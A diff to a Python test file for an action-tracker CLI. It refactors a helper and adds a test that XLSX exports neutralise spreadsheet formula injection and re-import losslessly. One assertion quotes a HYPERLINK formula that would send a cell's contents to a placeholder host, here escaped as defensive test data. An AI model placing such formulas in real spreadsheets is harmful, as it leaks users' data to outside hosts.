@@ -151,19 +151,50 @@ def test_exported_tracker_imports_as_it_was(hostile_db: Path, tmp_path: Path) ->
     runner = CliRunner()
     path = tmp_path / "tracker.csv"
     path.write_text(runner.invoke(app, ["actions", "export", "--csv"]).stdout, encoding="utf-8")
-    # A second database holding the same letter, so that unit ids name the same units.
     second = tmp_path / "second.db"
-    conn = open_db(second).conn
-    conn.execute("ATTACH DATABASE ? AS first", [str(hostile_db)])
-    for table in ("letters", "units"):
-        conn.execute(f"INSERT INTO {table} SELECT * FROM first.{table}")
-    conn.commit()
-    conn.execute("DETACH DATABASE first")
+    conn = _second_db_with_the_letters(hostile_db, second)
     result = runner.invoke(app, ["actions", "import", str(path), "--db", str(second)])
     assert result.exit_code == 0, result.output
     columns = "SELECT ref, title, owner, description FROM actions ORDER BY id"
     before = sqlite3.connect(hostile_db).execute(columns).fetchall()
     assert conn.execute(columns).fetchall() == before
+
+
+def _second_db_with_the_letters(first: Path, second: Path) -> sqlite3.Connection:
+    """A second database holding the same letters, so that unit ids name the same units."""
+    conn = open_db(second).conn
+    conn.execute("ATTACH DATABASE ? AS first", [str(first)])
+    for table in ("letters", "units"):
+        conn.execute(f"INSERT INTO {table} SELECT * FROM first.{table}")
+    conn.commit()
+    conn.execute("DETACH DATABASE first")
+    return conn
+
+
+def test_no_xlsx_cell_begins_a_formula_and_the_workbook_restores_exactly(
+    hostile_db: Path, tmp_path: Path
+) -> None:
+    import openpyxl
+
+    book = tmp_path / "tracker.xlsx"
+    runner = CliRunner()
+    result = runner.invoke(app, ["actions", "export", "--xlsx", str(book)])
+    assert result.exit_code == 0, result.output
+    workbook = openpyxl.load_workbook(book)
+    cells = [c for ws in workbook.worksheets for row in ws.iter_rows(min_row=2) for c in row]
+    text = [c.value for c in cells if isinstance(c.value, str)]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert [t for t in text if not _safe(t)] == []
+    assert '\'=HYPERLINK("http://x/?"&A1,"x")' in text  # readable, behind an apostrophe
+    conn = _second_db_with_the_letters(hostile_db, tmp_path / "second.db")
+    result = runner.invoke(
+        app, ["actions", "import", str(book), "--db", str(tmp_path / "second.db")]
+    )
+    assert result.exit_code == 0, result.output
+    for table in ("actions", "action_history", "action_units"):
+        query = f"SELECT * FROM {table} ORDER BY 1, 2"
+        before = sqlite3.connect(hostile_db).execute(query).fetchall()
+        assert before and conn.execute(query).fetchall() == before, table
 
 
 @pytest.mark.parametrize("value", HOSTILE)
